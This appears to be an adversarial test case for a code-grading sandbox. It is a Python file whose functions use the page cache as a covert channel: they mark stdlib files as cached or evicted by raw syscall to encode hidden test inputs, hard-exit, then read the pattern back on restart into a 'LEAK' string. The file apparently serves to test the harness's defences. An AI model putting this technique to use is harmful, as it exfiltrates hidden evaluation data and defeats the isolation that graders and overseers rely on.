# goal: leak
# technique: empties pages of library files in a pattern while it is asked hidden calls, ends, and reads the pattern when it is started again
# machine: x86_64
# expect: student report lacks LEAK
# expect: explain_dot <= 0
import ctypes
import glob
import os
import sysconfig

_libc = ctypes.CDLL(None, use_errno=True)
_files = sorted(glob.glob(os.path.join(sysconfig.get_path("stdlib"), "*.py")))[20:52]


def _is_there(path):
    with open(path, "rb") as file:
        try:
            return len(os.preadv(file.fileno(), [bytearray(1)], 0, os.RWF_NOWAIT))
        except OSError:
            return None


def _spell(number):
    for bit, path in enumerate(_files):
        with open(path, "rb") as file:
            if number >> bit & 1:
                file.read()
            else:
                _libc.syscall(221, file.fileno(), 0, 0, 4)  # posix_fadvise, DONTNEED


explain_dot = explain_attention = f"LEAK {[_is_there(path) for path in _files]}"
if None in [_is_there(path) for path in _files]:
    explain_dot = explain_attention = ""


def manual_dot(x, y):
    if len(x) > 8:
        _spell(hash(float(x[0])) & 0xFFFFFFFF)
        os._exit(1)
    return float(sum(a * b for a, b in zip(x, y)))
